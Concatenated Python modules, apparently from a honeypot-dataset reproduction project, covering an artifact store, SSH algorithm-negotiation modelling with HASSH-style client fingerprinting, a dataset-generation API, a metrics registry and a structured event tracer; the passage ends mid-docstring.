    def get(self, sha256: str) -> Optional[Artifact]:
        return self._artifacts.get(sha256)

    def content(self, sha256: str) -> Optional[bytes]:
        artifact = self._artifacts.get(sha256)
        return artifact.content if artifact else None

    def __len__(self) -> int:
        return len(self._artifacts)

    def __contains__(self, sha256: str) -> bool:
        return sha256 in self._artifacts

    @property
    def dedup_ratio(self) -> float:
        """Submissions per unique artifact (1.0 = no reuse)."""
        if not self._artifacts:
            return 0.0
        return self.total_submissions / len(self._artifacts)

    def artifacts(self) -> List[Artifact]:
        return list(self._artifacts.values())

    def top_by_sightings(self, k: int = 10) -> List[Artifact]:
        return sorted(self._artifacts.values(),
                      key=lambda a: -a.times_seen)[:k]

    def singletons(self) -> List[Artifact]:
        """Artifacts seen exactly once (the long tail of the paper)."""
        return [a for a in self._artifacts.values() if a.times_seen == 1]
