"""SSH handshake modelling and client fingerprinting.

The dataset records the client's SSH version string from the handshake;
related work (Ghiëtte et al., RAID'19) goes further and fingerprints the
*algorithm negotiation* (the basis of the HASSH fingerprint).  This module
models both: a key-exchange negotiation between the honeypot's server
profile and a client profile, and the HASSH-style digest of the client's
offered algorithm lists.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

SERVER_KEX = [
    "curve25519-sha256", "ecdh-sha2-nistp256", "diffie-hellman-group14-sha256",
    "diffie-hellman-group14-sha1",
]
SERVER_CIPHERS = ["chacha20-poly1305@openssh.com", "aes128-ctr", "aes256-ctr",
                  "aes128-cbc"]
SERVER_MACS = ["umac-64-etm@openssh.com", "hmac-sha2-256", "hmac-sha1"]
SERVER_COMPRESSION = ["none", "zlib@openssh.com"]


@dataclass(frozen=True)
class SshClientProfile:
    """Algorithm lists a client offers during KEXINIT."""

    version: str
    kex: Tuple[str, ...]
    ciphers: Tuple[str, ...]
    macs: Tuple[str, ...]
    compression: Tuple[str, ...] = ("none",)

    @property
    def hassh(self) -> str:
        """HASSH-style MD5 over the client's offered algorithm lists."""
        material = ";".join([
            ",".join(self.kex),
            ",".join(self.ciphers),
            ",".join(self.macs),
            ",".join(self.compression),
        ])
        return hashlib.md5(material.encode("utf-8")).hexdigest()


@dataclass
class NegotiationResult:
    success: bool
    kex: str = ""
    cipher: str = ""
    mac: str = ""
    compression: str = ""
    failure_reason: str = ""


#: Client profiles for the common attack tooling stacks.
KNOWN_CLIENT_PROFILES: Dict[str, SshClientProfile] = {
    "SSH-2.0-libssh2_1.4.3": SshClientProfile(
        version="SSH-2.0-libssh2_1.4.3",
        kex=("diffie-hellman-group14-sha1", "diffie-hellman-group1-sha1"),
        ciphers=("aes128-ctr", "aes128-cbc", "3des-cbc"),
        macs=("hmac-sha1", "hmac-md5"),
    ),
    "SSH-2.0-libssh2_1.8.0": SshClientProfile(
        version="SSH-2.0-libssh2_1.8.0",
        kex=("ecdh-sha2-nistp256", "diffie-hellman-group14-sha1"),
        ciphers=("aes128-ctr", "aes256-ctr"),
        macs=("hmac-sha2-256", "hmac-sha1"),
    ),
    "SSH-2.0-Go": SshClientProfile(
        version="SSH-2.0-Go",
        kex=("curve25519-sha256", "ecdh-sha2-nistp256"),
        ciphers=("chacha20-poly1305@openssh.com", "aes128-ctr"),
        macs=("hmac-sha2-256",),
    ),
    "SSH-2.0-paramiko_2.7.2": SshClientProfile(
        version="SSH-2.0-paramiko_2.7.2",
        kex=("curve25519-sha256", "diffie-hellman-group14-sha256"),
        ciphers=("aes128-ctr", "aes256-ctr"),
        macs=("hmac-sha2-256", "hmac-sha1"),
    ),
    "SSH-2.0-PUTTY": SshClientProfile(
        version="SSH-2.0-PUTTY",
        kex=("ecdh-sha2-nistp256", "diffie-hellman-group14-sha1"),
        ciphers=("aes256-ctr", "aes128-cbc"),
        macs=("hmac-sha2-256", "hmac-sha1"),
    ),
    "SSH-2.0-JSCH-0.1.54": SshClientProfile(
        version="SSH-2.0-JSCH-0.1.54",
        kex=("diffie-hellman-group14-sha1", "diffie-hellman-group1-sha1"),
        ciphers=("aes128-ctr", "3des-cbc"),
        macs=("hmac-sha1", "hmac-md5"),
    ),
    # A legacy-only bot stack that fails against the modern server profile.
    "SSH-2.0-sshlib-0.1": SshClientProfile(
        version="SSH-2.0-sshlib-0.1",
        kex=("diffie-hellman-group1-sha1",),
        ciphers=("3des-cbc", "blowfish-cbc"),
        macs=("hmac-md5",),
    ),
}


def negotiate(
    client: SshClientProfile,
    server_kex: Optional[List[str]] = None,
    server_ciphers: Optional[List[str]] = None,
    server_macs: Optional[List[str]] = None,
) -> NegotiationResult:
    """RFC 4253 §7.1 negotiation: first client algorithm the server knows."""
    server_kex = server_kex or SERVER_KEX
    server_ciphers = server_ciphers or SERVER_CIPHERS
    server_macs = server_macs or SERVER_MACS

    def pick(client_list, server_list, what) -> Tuple[str, str]:
        for algorithm in client_list:
            if algorithm in server_list:
                return algorithm, ""
        return "", f"no common {what}"

    kex, err = pick(client.kex, server_kex, "kex algorithm")
    if err:
        return NegotiationResult(False, failure_reason=err)
    cipher, err = pick(client.ciphers, server_ciphers, "cipher")
    if err:
        return NegotiationResult(False, failure_reason=err)
    mac, err = pick(client.macs, server_macs, "mac")
    if err:
        return NegotiationResult(False, failure_reason=err)
    compression, err = pick(client.compression, SERVER_COMPRESSION,
                            "compression")
    if err:
        return NegotiationResult(False, failure_reason=err)
    return NegotiationResult(True, kex=kex, cipher=cipher, mac=mac,
                             compression=compression)


def hassh_of(version: str) -> Optional[str]:
    """HASSH fingerprint for a known client version string."""
    profile = KNOWN_CLIENT_PROFILES.get(version)
    return profile.hassh if profile else None


def fingerprint_census(versions: List[str]) -> Dict[str, int]:
    """Count sessions per HASSH fingerprint (unknown stacks excluded).

    Distinct version strings can share a fingerprint (same library, new
    banner), which is exactly why related work prefers HASSH over banner
    strings for tool attribution.
    """
    census: Dict[str, int] = {}
    for version in versions:
        fp = hassh_of(version)
        if fp is not None:
            census[fp] = census.get(fp, 0) + 1
    return census
