"""The stable public surface: ``repro.generate`` / ``report`` / ``load``.

Five PRs of organic growth scattered entry points across
``workload.generator.generate_dataset`` (kwarg sprawl),
``workload.shards.generate_sharded`` (hard-wired pool) and ad-hoc CLI
plumbing.  This module is the consolidation: one frozen
:class:`RunOptions` value describes *how* to run (backend, workers,
cache, work-trace replay), and three functions do the work:

>>> import repro
>>> dataset = repro.generate(repro.ScenarioConfig(scale=1/4000))
>>> print(repro.report(dataset))

The old entry points keep working as thin shims that emit
``DeprecationWarning``.  Everything here routes through
:mod:`repro.sched`, so the backend seam (``inline`` / ``pool`` /
``queue``) is the stable contract — stores are byte-identical whichever
backend runs the shards.
"""

from __future__ import annotations

import os
from dataclasses import dataclass
from pathlib import Path
from typing import Optional, Union

PathLike = Union[str, Path]

#: ``backend`` spellings :func:`generate` accepts.  ``serial`` is the
#: original single-pass generator (a distinct, equally valid trace whose
#: draw order predates sharding); the rest are :mod:`repro.sched`
#: execution backends over the sharded pipeline.
GENERATE_BACKENDS = ("serial", "inline", "pool", "queue")

#: Environment variable supplying a default worker count.
WORKERS_ENV_VAR = "REPRO_WORKERS"


@dataclass(frozen=True)
class RunOptions:
    """How to run a generation: everything except the scenario itself.

    Frozen so a value can be shared, compared and logged; derive variants
    with :func:`dataclasses.replace`.  ``workers=None`` defers to the
    ``REPRO_WORKERS`` environment variable (unset: 1 — except for the
    ``serial`` backend, which is single-pass by construction).
    """

    #: Execution backend: one of :data:`GENERATE_BACKENDS`.
    backend: str = "pool"
    #: Worker processes (None: ``$REPRO_WORKERS``, else 1).
    workers: Optional[int] = None
    #: Dataset cache directory or :class:`~repro.workload.cache.DatasetCache`.
    cache: Optional[object] = None
    #: Work-trace JSONL to replay (or record, when absent) — sharded
    #: backends only.
    trace_file: Optional[PathLike] = None
    #: Poisson arrival rate for a freshly built work trace (None: default).
    arrival_rate: Optional[float] = None
    #: Spool directory for the ``queue`` backend (None: a private tempdir).
    queue_root: Optional[PathLike] = None

    def __post_init__(self) -> None:
        if self.backend not in GENERATE_BACKENDS:
            raise ValueError(
                f"unknown backend {self.backend!r} "
                f"(expected one of {', '.join(GENERATE_BACKENDS)})"
            )
        if self.workers is not None and int(self.workers) < 1:
            raise ValueError("workers must be >= 1")

    def resolved_workers(self) -> int:
        """The effective worker count: explicit > $REPRO_WORKERS > 1."""
        if self.workers is not None:
            return max(1, int(self.workers))
        raw = os.environ.get(WORKERS_ENV_VAR, "").strip()
        return max(1, int(raw)) if raw else 1


def generate(config=None, *, backend: str = "pool",
             workers: Optional[int] = None, cache=None,
             options: Optional[RunOptions] = None, **extra):
    """Generate one synthetic honeyfarm trace (the stable entry point).

    Either pass ``options`` (a :class:`RunOptions`) or the individual
    keywords — ``backend``, ``workers``, ``cache``, plus any other
    :class:`RunOptions` field by name.  The output depends only on the
    config and the pipeline family (``serial`` vs sharded): every sharded
    backend and worker count yields byte-identical stores.

    Returns a :class:`~repro.workload.dataset.HoneyfarmDataset`.
    """
    from repro.workload.config import ScenarioConfig

    config = config or ScenarioConfig()
    if options is None:
        options = RunOptions(backend=backend, workers=workers, cache=cache,
                             **extra)
    elif workers is not None or cache is not None or extra or \
            backend != "pool":
        raise TypeError("pass either options= or individual keywords, "
                        "not both")

    from repro.obs.ledger import get_ledger
    from repro.workload.cache import dataset_fingerprint

    # The run ledger (when armed via ``use_ledger`` / ``--ledger``) pins
    # the run's logical identity here: the config fingerprint keys the
    # pipeline *family*, so workers=1 and workers=8 ledgers strip equal.
    family_workers = None if options.backend == "serial" else 1
    fingerprint = dataset_fingerprint(config, workers=family_workers)
    ledger = get_ledger()
    if ledger is not None:
        ledger.begin_run(
            "generate", config=config, fingerprint=fingerprint,
            backend=options.backend, workers=options.resolved_workers(),
        )

    cache_obj = None
    if options.cache is not None:
        from repro.workload.cache import as_cache

        cache_obj = as_cache(options.cache)
        # Only the pipeline family keys the cache: all sharded backends
        # and worker counts produce the same bytes, so they share entries.
        cached = cache_obj.load(fingerprint)
        if cached is not None:
            if ledger is not None:
                ledger.record_store(cached.content_digest(),
                                    len(cached.store), cache_hit=True)
            return cached

    if options.backend == "serial":
        from repro.workload.generator import TraceGenerator

        dataset = TraceGenerator(config).run()
    else:
        from repro.sched.backends import make_backend
        from repro.sched.scheduler import generate_scheduled

        resolved = options.resolved_workers()
        dataset = generate_scheduled(
            config,
            backend=make_backend(options.backend, workers=resolved,
                                 queue_root=options.queue_root),
            workers=resolved,
            trace_file=options.trace_file,
            arrival_rate=options.arrival_rate,
        )

    if cache_obj is not None:
        cache_obj.store(fingerprint, dataset)
    if ledger is not None:
        ledger.record_store(dataset.content_digest(), len(dataset.store))
    return dataset


def report(dataset=None, *, config=None,
           options: Optional[RunOptions] = None) -> str:
    """The paper-vs-measured summary for a dataset (generated if needed).

    Pass a dataset, or a config (plus optional :class:`RunOptions`) to
    generate one first.  Returns the rendered summary string.
    """
    if dataset is None:
        dataset = generate(config, options=options) if options is not None \
            else generate(config)
    from repro.core.report import print_summary

    return print_summary(dataset)


def load(path: PathLike, config=None):
    """Wrap an existing trace as a :class:`HoneyfarmDataset`.

    ``path`` is a dataset directory written by
    :func:`repro.workload.io.save_dataset`, or a bare ``.npz`` /
    ``.jsonl[.gz]`` trace.  A bare trace carries no deployment/intel
    sidecar: the deployment is rebuilt the way the generator would for
    ``config`` (default seed when None) and intel starts empty, so
    intel-dependent tables show zero coverage.
    """
    from repro.workload.config import ScenarioConfig
    from repro.workload.io import load_dataset

    path_obj = Path(path)
    if path_obj.is_dir():
        return load_dataset(path_obj)

    config = config or ScenarioConfig()
    if path_obj.suffix == ".npz":
        from repro.store.npz import load_npz

        store = load_npz(path_obj)
    elif path_obj.name.endswith((".jsonl", ".jsonl.gz")):
        from repro.store.io import read_jsonl

        store = read_jsonl(path_obj)
    else:
        raise ValueError(
            f"{path}: neither a dataset directory nor a "
            ".npz/.jsonl[.gz] trace"
        )

    from repro.farm.deployment import build_default_deployment
    from repro.geo.registry import GeoRegistry
    from repro.intel.database import IntelDatabase
    from repro.simulation.rng import RngStream
    from repro.workload.dataset import HoneyfarmDataset

    registry = GeoRegistry()
    deployment = build_default_deployment(
        # Intentional name reuse: loading a dataset replays the exact
        # stream the generator used, so the rebuilt deployment matches
        # the one the stored sessions were drawn against.
        RngStream(config.seed, "workload.deployment"),  # repro: lint-ok[rng-lineage]
        registry,
    )
    return HoneyfarmDataset(
        config=config,
        store=store,
        deployment=deployment,
        registry=registry,
        intel=IntelDatabase(),
    )


__all__ = [
    "GENERATE_BACKENDS",
    "RunOptions",
    "WORKERS_ENV_VAR",
    "generate",
    "load",
    "report",
]
