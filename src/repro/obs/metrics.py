"""The metrics registry: counters, gauges, histograms, and spans.

A :class:`Metrics` object is a plain in-process registry with four kinds of
instruments:

* **counters** — monotonically accumulated floats (``inc``);
* **gauges** — last-set or running-max values (``gauge_set`` / ``gauge_max``);
* **histograms** — raw observed samples with percentile queries
  (``observe`` and the :meth:`Metrics.timer` context manager);
* **spans** — hierarchical wall-clock / CPU stage timings (``span``).

Everything is zero-dependency pure Python, serialises to plain dicts
(:meth:`Metrics.to_dict` / :meth:`Metrics.from_dict`) and merges
associatively (:meth:`Metrics.merge`), which is what makes the registry
multiprocess-safe: each worker records into its own registry, ships the
dict back with its shard, and the parent folds the dicts in shard order.

A module-level *current* registry (:func:`get_metrics`) is what the
instrumented code paths write to; :func:`use_metrics` swaps a fresh (or
given) registry in for a scope, which is how workers and tests isolate
their measurements.
"""

from __future__ import annotations

import math
# Deterministically seeded reservoir sampling (Algorithm R) — not a
# simulation draw; sim randomness flows through named RngStreams.
import random  # repro: lint-ok[global-random]
import time
from contextlib import contextmanager
from typing import Dict, Iterator, List, Optional, Union


class Histogram:
    """Raw-sample histogram with percentile queries.

    **Uncapped** (the default), samples are kept verbatim (instrumented
    sites observe per-block or per-shard quantities, so cardinality stays
    small) which keeps merges exact: concatenating two histograms is the
    same as observing both sample sets into one.

    **Capped** (``cap=N``), the sample list is a fixed-size reservoir
    (Algorithm R with a deterministic per-instance rng) so unbounded
    observation streams — per-session latencies in a million-session live
    run — cannot grow memory without bound.  ``count`` / ``total`` /
    ``mean`` / ``max`` stay exact (tracked as scalars alongside the
    reservoir); percentiles become reservoir estimates.  The tradeoff is
    merge exactness: merging capped histograms re-subsamples the combined
    reservoir, so percentiles of a merged capped histogram are an estimate
    of (not identical to) observing both streams into one — which is why
    the multiprocess pipeline instruments keep the uncapped default.
    """

    __slots__ = ("values", "cap", "_count", "_total", "_max", "_rng")

    def __init__(self, values: Optional[List[float]] = None,
                 cap: Optional[int] = None):
        self.cap = int(cap) if cap else None
        self._rng = random.Random(0x5EED) if self.cap else None
        self.values: List[float] = []
        self._count = 0
        self._total = 0.0
        self._max = 0.0
        if values:
            for v in values:
                self.observe(v)

    def observe(self, value: float) -> None:
        value = float(value)
        self._count += 1
        self._total += value
        if value > self._max or self._count == 1:
            self._max = value
        cap = self.cap
        if cap is None or len(self.values) < cap:
            self.values.append(value)
        else:
            # Algorithm R: the i-th observation replaces a reservoir slot
            # with probability cap/i, keeping a uniform sample of the stream.
            j = self._rng.randrange(self._count)
            if j < cap:
                self.values[j] = value

    @property
    def count(self) -> int:
        return self._count

    @property
    def total(self) -> float:
        return self._total

    @property
    def mean(self) -> float:
        return self._total / self._count if self._count else 0.0

    @property
    def max(self) -> float:
        return self._max if self._count else 0.0

    def percentile(self, p: float) -> float:
        """Linear-interpolated percentile ``p`` in [0, 100].

        Exact for uncapped histograms; a reservoir estimate once capped.
        """
        if not self.values:
            return 0.0
        xs = sorted(self.values)
        rank = (len(xs) - 1) * (p / 100.0)
        lo = math.floor(rank)
        hi = math.ceil(rank)
        if lo == hi:
            return xs[int(rank)]
        return xs[lo] + (xs[hi] - xs[lo]) * (rank - lo)

    def merge(self, other: "Histogram") -> None:
        self.merge_payload(other.to_payload())

    # -- serialisation ---------------------------------------------------------

    def to_payload(self):
        """Dict-form payload: a bare sample list while exact (uncapped),
        a ``{values, count, total, max, cap}`` object once capped."""
        if self.cap is None:
            return list(self.values)
        return {
            "values": list(self.values),
            "count": self._count,
            "total": self._total,
            "max": self._max,
            "cap": self.cap,
        }

    def merge_payload(self, payload) -> None:
        """Fold a payload (bare list or capped dict form) into this one.

        List-into-uncapped keeps exact semantics (plain concatenation).
        Any capped participant makes the result capped (adopting the
        payload's cap when this histogram has none) and the combined
        sample set is re-admitted through the reservoir.
        """
        if isinstance(payload, dict):
            incoming = payload.get("values", [])
            count = int(payload.get("count", len(incoming)))
            total = float(payload.get("total", sum(incoming)))
            peak = float(payload.get("max", max(incoming) if incoming else 0.0))
            cap = payload.get("cap")
            if cap and self.cap is None:
                self.cap = int(cap)
                self._rng = random.Random(0x5EED)
                if len(self.values) > self.cap:
                    self.values = self._rng.sample(self.values, self.cap)
        else:
            incoming = payload
            count = len(incoming)
            total = float(sum(incoming))
            peak = float(max(incoming)) if incoming else 0.0
        if self.cap is None:
            self.values.extend(float(v) for v in incoming)
            self._count += count
            self._total += total
            if count and (peak > self._max or self._count == count):
                self._max = peak
            return
        # Capped: admit the incoming samples through the reservoir, then
        # restore the exact scalar accumulators (observe() re-counts).
        saved = (self._count + count, self._total + total,
                 max(self._max, peak) if self._count else peak)
        for v in incoming:
            self.observe(v)
        self._count, self._total, self._max = saved


def _new_span_cell() -> Dict[str, float]:
    return {"count": 0, "wall": 0.0, "cpu": 0.0}


class Stopwatch:
    """An elapsed-wall-time handle — the obs layer's clock for callers.

    Pipeline code outside ``repro.obs`` must not read real time directly
    (the ``wall-clock`` lint rule; host timing must never leak into
    results that are a pure function of config + seed).  Code that wants
    to *measure* itself starts a stopwatch and asks it for the interval,
    keeping every wall-clock read inside this one auditable layer::

        watch = stopwatch()
        ...work...
        metrics.observe("store.freeze_seconds", watch.elapsed())
    """

    __slots__ = ("_t0",)

    def __init__(self) -> None:
        self._t0 = time.perf_counter()

    def elapsed(self) -> float:
        """Seconds since construction (or the last :meth:`restart`)."""
        return time.perf_counter() - self._t0

    def restart(self) -> None:
        self._t0 = time.perf_counter()


def stopwatch() -> Stopwatch:
    """Start and return a :class:`Stopwatch`."""
    return Stopwatch()


class Metrics:
    """One registry of counters, gauges, histograms and span timings."""

    __slots__ = ("counters", "gauges", "histograms", "spans", "_stack")

    def __init__(self) -> None:
        self.counters: Dict[str, float] = {}
        self.gauges: Dict[str, float] = {}
        self.histograms: Dict[str, Histogram] = {}
        #: span path ("generate/campaigns") -> {count, wall, cpu}
        self.spans: Dict[str, Dict[str, float]] = {}
        self._stack: List[str] = []

    # -- counters / gauges / histograms -------------------------------------

    def inc(self, name: str, n: float = 1) -> None:
        # try/except beats .get(): existing keys (the steady state on hot
        # paths) pay a single hash lookup and no bound-method call.
        try:
            self.counters[name] += n
        except KeyError:
            self.counters[name] = n

    def counter(self, name: str) -> float:
        return self.counters.get(name, 0)

    def gauge_set(self, name: str, value: float) -> None:
        self.gauges[name] = float(value)

    def gauge_max(self, name: str, value: float) -> None:
        g = self.gauges
        if value > g.get(name, float("-inf")):
            g[name] = float(value)

    def observe(self, name: str, value: float) -> None:
        hist = self.histograms.get(name)
        if hist is None:
            hist = self.histograms[name] = Histogram()
        hist.observe(value)

    def histogram(self, name: str, cap: Optional[int] = None) -> Histogram:
        """Get-or-create histogram ``name`` (``cap`` applies on creation).

        Unbounded-stream observers (the live farm-health monitor) create
        their histograms through this with a reservoir cap; pipeline
        instruments keep the exact uncapped default via :meth:`observe`.
        """
        hist = self.histograms.get(name)
        if hist is None:
            hist = self.histograms[name] = Histogram(cap=cap)
        return hist

    @contextmanager
    def timer(self, name: str) -> Iterator[None]:
        """Time a block into histogram ``name`` (seconds)."""
        t0 = time.perf_counter()
        try:
            yield
        finally:
            self.observe(name, time.perf_counter() - t0)

    # -- spans ----------------------------------------------------------------

    @contextmanager
    def span(self, name: str) -> Iterator[None]:
        """Record a hierarchical stage timing.

        Nested spans build slash-joined paths: ``span("generate")``
        containing ``span("merge")`` records under ``generate`` and
        ``generate/merge``.  Wall time is ``time.perf_counter`` and CPU
        time ``time.process_time``, both accumulated per path.
        """
        path = f"{self._stack[-1]}/{name}" if self._stack else name
        self._stack.append(path)
        wall0 = time.perf_counter()
        cpu0 = time.process_time()
        try:
            yield
        finally:
            self._stack.pop()
            cell = self.spans.get(path)
            if cell is None:
                cell = self.spans[path] = _new_span_cell()
            cell["count"] += 1
            cell["wall"] += time.perf_counter() - wall0
            cell["cpu"] += time.process_time() - cpu0

    # -- serialisation / merge -------------------------------------------------

    def to_dict(self) -> Dict:
        """Plain-dict (JSON-serialisable, picklable) form of the registry."""
        return {
            "counters": dict(self.counters),
            "gauges": dict(self.gauges),
            "histograms": {k: h.to_payload() for k, h in self.histograms.items()},
            "spans": {k: dict(v) for k, v in self.spans.items()},
        }

    @classmethod
    def from_dict(cls, data: Dict) -> "Metrics":
        out = cls()
        out.merge(data)
        return out

    def merge(
        self,
        other: Union["Metrics", Dict],
        span_prefix: Optional[str] = None,
    ) -> None:
        """Fold another registry (or its dict form) into this one.

        Counters and span cells sum, histograms concatenate, gauges keep
        the maximum (every shipped gauge is a high-water mark).  With
        ``span_prefix`` the other registry's span paths are re-rooted
        under ``<span_prefix>/...`` — used to nest worker-side stage
        timings under the parent's pipeline tree.
        """
        data = other.to_dict() if isinstance(other, Metrics) else other
        for name, value in data.get("counters", {}).items():
            self.inc(name, value)
        for name, value in data.get("gauges", {}).items():
            self.gauge_max(name, value)
        for name, payload in data.get("histograms", {}).items():
            hist = self.histograms.get(name)
            if hist is None:
                hist = self.histograms[name] = Histogram()
            hist.merge_payload(payload)
        for path, cell in data.get("spans", {}).items():
            if span_prefix:
                path = f"{span_prefix}/{path}"
            mine = self.spans.get(path)
            if mine is None:
                mine = self.spans[path] = _new_span_cell()
            mine["count"] += cell.get("count", 0)
            mine["wall"] += cell.get("wall", 0.0)
            mine["cpu"] += cell.get("cpu", 0.0)

    def delta_since(self, snapshot: Dict) -> Dict:
        """Counters/spans accumulated since ``snapshot`` (a to_dict form).

        Used by the benchmark harness to attach a per-test ``stages``
        breakdown: only instruments that moved are reported.
        """
        base_counters = snapshot.get("counters", {})
        counters = {
            name: value - base_counters.get(name, 0)
            for name, value in self.counters.items()
            if value != base_counters.get(name, 0)
        }
        base_spans = snapshot.get("spans", {})
        spans = {}
        for path, cell in self.spans.items():
            base = base_spans.get(path, _new_span_cell())
            if cell["count"] != base.get("count", 0):
                spans[path] = {
                    "count": cell["count"] - base.get("count", 0),
                    "wall": cell["wall"] - base.get("wall", 0.0),
                    "cpu": cell["cpu"] - base.get("cpu", 0.0),
                }
        return {"counters": counters, "spans": spans}


# -- the current registry ------------------------------------------------------

_CURRENT = Metrics()


def get_metrics() -> Metrics:
    """The registry instrumented code paths are currently writing to."""
    return _CURRENT


def set_metrics(metrics: Metrics) -> Metrics:
    """Replace the current registry (returns it, for chaining)."""
    global _CURRENT
    _CURRENT = metrics
    return metrics


def reset_metrics() -> Metrics:
    """Install and return a fresh empty registry."""
    return set_metrics(Metrics())


@contextmanager
def use_metrics(metrics: Optional[Metrics] = None) -> Iterator[Metrics]:
    """Swap ``metrics`` (default: a fresh registry) in for the scope.

    This is how shard workers and tests isolate their measurements: code
    inside the block writes to the swapped-in registry, which the caller
    keeps after the previous registry is restored.
    """
    global _CURRENT
    previous = _CURRENT
    _CURRENT = metrics if metrics is not None else Metrics()
    try:
        yield _CURRENT
    finally:
        _CURRENT = previous


def inc(name: str, n: float = 1) -> None:
    """Increment a counter on the current registry (hot-path shorthand)."""
    c = _CURRENT.counters
    try:
        c[name] += n
    except KeyError:
        c[name] = n
