"""The flight recorder: ring-buffered structured trace events.

Complements the metrics registry (:mod:`repro.obs.metrics`): where metrics
aggregate, the tracer *records* — an ordered stream of JSON-shaped events
with both a simulation-time stamp and a wall-clock stamp, grouped by a
``trace_id`` minted per session / connection (interactive path) or per
emission block (bulk path; tracing hooks block boundaries, never
per-element loops).  Events live in a bounded ring buffer and can stream
to a JSONL sink as they happen, which is what ``repro monitor`` tails.

Tracing is **off by default** and the disabled hot path is a single
module-global ``None`` check (:func:`emit` returns immediately), so the
instrumented code paths stay inside the pipeline's 3 % overhead budget.

Event schema (:data:`EVENT_SCHEMA`, enforced by :func:`validate_trace`)::

    {
      "seq":      int,          # total order, strictly increasing
      "wall":     float,        # wall-clock stamp (epoch seconds)
      "kind":     str,          # e.g. "honeypot.login.failed", "generator.block"
      "trace_id": str | null,   # session / connection / block identity
      "ts":       float,        # optional: simulation seconds
      "data":     {...},        # optional: event payload
      "shard":    {...},        # optional: shard provenance (folded workers)
    }

Multiprocess story — mirrors ``Metrics.merge``: each shard worker records
under its own tracer (:func:`use_tracer`), ships the event list back with
the shard, and the parent folds the lists **in shard order**
(:meth:`Tracer.fold`), re-stamping ``seq`` and attaching shard provenance.
Per-trace event sequences are therefore identical for every worker count,
modulo the ``shard`` and ``wall`` fields.
"""

from __future__ import annotations

import json
import time
from collections import deque
from contextlib import contextmanager
from typing import Any, Dict, Iterable, List, Optional, Sequence

#: Default ring-buffer capacity (events kept in memory per tracer).
DEFAULT_CAPACITY = 65536

#: Required event fields and their types.
EVENT_SCHEMA: Dict[str, tuple] = {
    "seq": (int,),
    "wall": (int, float),
    "kind": (str,),
}

#: Optional event fields and their types (``trace_id`` may also be None).
EVENT_OPTIONAL: Dict[str, tuple] = {
    "trace_id": (str,),
    "ts": (int, float),
    "data": (dict,),
    "shard": (dict,),
}

#: Required keys of the ``shard`` provenance sub-object.
SHARD_SCHEMA: Dict[str, tuple] = {
    "index": (int,),
    "kind": (str,),
    "key": (str,),
}


class Tracer:
    """A bounded recorder of structured events, optionally streaming JSONL.

    ``capacity`` bounds the in-memory ring (old events fall off the front,
    counted in :attr:`dropped`); ``sink`` is a writable text file object
    that receives every event as one JSON line the moment it is emitted —
    the live stream ``repro monitor`` tails.
    """

    __slots__ = ("events", "capacity", "dropped", "emitted",
                 "_seq", "_sink", "_stack", "_mint_counts")

    def __init__(self, capacity: int = DEFAULT_CAPACITY, sink=None):
        self.capacity = int(capacity)
        self.events: deque = deque(maxlen=self.capacity)
        self.dropped = 0
        self.emitted = 0
        self._seq = 0
        self._sink = sink
        self._stack: List[str] = []
        self._mint_counts: Dict[str, int] = {}

    # -- emission -------------------------------------------------------------

    def emit(
        self,
        kind: str,
        trace_id: Optional[str] = None,
        sim_time: Optional[float] = None,
        **data: Any,
    ) -> Dict[str, Any]:
        """Record one event. ``trace_id`` defaults to the current context."""
        if trace_id is None and self._stack:
            trace_id = self._stack[-1]
        event: Dict[str, Any] = {
            "seq": self._seq,
            "wall": time.time(),
            "kind": kind,
            "trace_id": trace_id,
        }
        self._seq += 1
        if sim_time is not None:
            event["ts"] = float(sim_time)
        if data:
            event["data"] = data
        self._append(event)
        return event

    def _append(self, event: Dict[str, Any]) -> None:
        if len(self.events) == self.capacity:
            self.dropped += 1
        self.events.append(event)
        self.emitted += 1
        if self._sink is not None:
            self._sink.write(json.dumps(event, sort_keys=True) + "\n")
            self._sink.flush()

    # -- trace-id context -----------------------------------------------------

    @contextmanager
    def context(self, trace_id: Optional[str]):
        """Attribute events emitted inside the block to ``trace_id``."""
        self._stack.append(trace_id)
        try:
            yield
        finally:
            self._stack.pop()

    @property
    def current_trace_id(self) -> Optional[str]:
        return self._stack[-1] if self._stack else None

    def mint(self, scope: str) -> str:
        """A fresh trace id ``<scope>#<n>`` (per-tracer counter per scope)."""
        n = self._mint_counts.get(scope, 0)
        self._mint_counts[scope] = n + 1
        return f"{scope}#{n}"

    # -- fold (multiprocess) ---------------------------------------------------

    def fold(
        self,
        events: Iterable[Dict[str, Any]],
        shard: Optional[Dict[str, Any]] = None,
    ) -> int:
        """Append a worker's event list, re-stamping order and provenance.

        Events keep their original wall/sim stamps and payload; ``seq`` is
        re-assigned in fold order (the parent's total order) and ``shard``
        provenance is attached.  Mirrors ``Metrics.merge``: folding shard
        event lists in shard order makes the combined trace independent of
        which worker emitted what.
        """
        folded = 0
        for event in events:
            event = dict(event)
            event["seq"] = self._seq
            self._seq += 1
            if shard is not None:
                event["shard"] = dict(shard)
            self._append(event)
            folded += 1
        return folded

    # -- results ---------------------------------------------------------------

    def to_list(self) -> List[Dict[str, Any]]:
        """The buffered events, oldest first."""
        return list(self.events)

    def __len__(self) -> int:
        return len(self.events)


# -- the current tracer --------------------------------------------------------
#
# ``None`` means tracing is disabled — the steady state.  Hot paths call the
# module-level :func:`emit` (or check :func:`enabled` before building event
# payloads), which costs one global load and a ``None`` test when off.

_TRACER: Optional[Tracer] = None


def enabled() -> bool:
    """True when a tracer is installed (cheap hot-path guard)."""
    return _TRACER is not None


def get_tracer() -> Optional[Tracer]:
    """The tracer events are currently recorded into (None = disabled)."""
    return _TRACER


def set_tracer(tracer: Optional[Tracer]) -> Optional[Tracer]:
    """Install ``tracer`` (or disable tracing with None). Returns it."""
    global _TRACER
    _TRACER = tracer
    return tracer


@contextmanager
def use_tracer(tracer: Optional[Tracer]):
    """Swap ``tracer`` in for the scope (None silences tracing).

    Shard workers record under a fresh ``Tracer()`` and ship its event
    list back; script profiling swaps in ``None`` so the reference
    honeypot runs (a per-process measurement detail) never pollute the
    workload trace — the same reason worker-count-variant counters are
    excluded from the metrics invariance contract.
    """
    global _TRACER
    previous = _TRACER
    _TRACER = tracer
    try:
        yield tracer
    finally:
        _TRACER = previous


def emit(
    kind: str,
    trace_id: Optional[str] = None,
    sim_time: Optional[float] = None,
    **data: Any,
) -> None:
    """Record one event on the current tracer; no-op when disabled."""
    t = _TRACER
    if t is not None:
        t.emit(kind, trace_id=trace_id, sim_time=sim_time, **data)


def emit_block(category: str, day: int, sessions: int, **data: Any) -> None:
    """Record one bulk-emission block boundary (the generator hot-path hook).

